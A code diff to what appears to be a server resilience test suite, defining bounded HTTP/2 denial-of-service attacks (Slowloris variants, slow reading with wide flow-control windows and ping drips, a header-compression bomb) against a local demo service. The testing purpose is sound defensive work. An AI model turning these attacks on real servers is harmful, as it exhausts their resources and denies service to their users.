@@ -1,4 +1,5 @@
 /** Attacks on HTTP/2, each bounded: what one attacker sends, at most. */
+import { setTimeout as sleep } from 'node:timers/promises';
 import {
   openRawClient,
   PREFACE,
@@ -11,9 +12,11 @@ import type { Attack, Scope } from './types.ts';
 
 const BATCHES = 200;
 const BATCH = 200;
-const CLIENT_GIVES_UP_MS = 8_000;
-const TARGET = requestBlock().toString('latin1').replace('\x01/', '\x0b/v1/shelves');
-const REQUEST = Buffer.from(TARGET, 'latin1');
+const CLIENT_GIVES_UP_MS = 6_000;
+const DRIP_MS = 100;
+const REQUEST = requestTo('/v1/shelves');
+/** Its answer is the largest of the demo. */
+const DOWNLOAD = requestTo('/v1/shelves/1/books/1/manuscript');
 const ZERO_WINDOWS = rawFrame(Type.settings, 0, 0, '000400000000');
 const END_HEADERS = 4;
 const ENDS = 5;
@@ -62,18 +65,18 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
       }),
   },
   {
-    name: 'Slowloris: nothing',
+    name: 'Slowloris: nothing at all',
     limit: 'first_byte',
     run: (scope, port) => untilClosed(scope, port, () => {}),
   },
   {
-    name: 'Slowloris: the head',
+    name: 'Slowloris on HTTP/2: the head',
     limit: 'head',
     run: (scope, port) =>
       untilClosed(scope, port, (client) => client.write(PREFACE, SETTINGS, head(1, 0))),
   },
   {
-    name: 'Slowloris: the body',
+    name: 'Slowloris on HTTP/2: the body',
     limit: 'body',
     run: (scope, port) =>
       untilClosed(scope, port, (client) => {
@@ -83,14 +86,23 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
       }),
   },
   {
-    name: 'Slowloris: reading',
+    name: 'Slowloris on HTTP/2: reading',
     limit: 'write',
+    // 25 MB of answers: with 20 attackers it would be the service that is short of time.
+    attackers: 5,
     run: (scope, port) =>
-      untilClosed(scope, port, (client) => {
+      untilClosed(scope, port, async (client) => {
         const wide = rawFrame(Type.settings, 0, 0, '00047fffffff');
+        const wideConnection = rawFrame(Type.windowUpdate, 0, 0, '7fff0000');
         client.socket.pause();
-        client.write(PREFACE, wide);
-        for (let i = 0; i < 20_000; i++) client.write(head(2 * i + 1, ENDS));
+        client.write(PREFACE, wide, wideConnection);
+        for (let i = 0; i < 24; i++)
+          client.write(rawFrame(Type.headers, ENDS, 2 * i + 1, DOWNLOAD));
+        // Who reads nothing learns that the connection is over by what it sends.
+        while (!client.socket.destroyed) {
+          client.write(rawFrame(Type.ping, 0, 0, Buffer.alloc(8)));
+          await sleep(DRIP_MS);
+        }
       }),
   },
 ];
@@ -123,10 +135,9 @@ async function untilClosed(
     // It was closed before it had sent all: that is what it is about.
     client.socket.destroy();
   });
-  const timer = AbortSignal.timeout(CLIENT_GIVES_UP_MS);
-  const patience = new Promise<void>((resolve) => timer.addEventListener('abort', () => resolve()));
-  await Promise.race([client.closed, patience]);
-  client.socket.destroy();
+  const patience = setTimeout(() => client.socket.destroy(), CLIENT_GIVES_UP_MS);
+  await client.closed;
+  clearTimeout(patience);
   await begun;
 }
 
@@ -135,6 +146,11 @@ function bomb(id: number): Buffer {
   if (id > 1) return Buffer.concat([REQUEST, Buffer.alloc(10_000, 0xbe)]);
   const entry = Buffer.from('4001617fbd1d', 'hex');
   return Buffer.concat([REQUEST, entry, Buffer.alloc(3_900, 'x'), Buffer.alloc(5_000, 0xbe)]);
+}
+
+function requestTo(path: string): Buffer {
+  const target = String.fromCharCode(path.length) + path;
+  return Buffer.from(requestBlock().toString('latin1').replace('\x01/', target), 'latin1');
 }
 
 /** How many bytes of {@link REQUEST} are its method. */
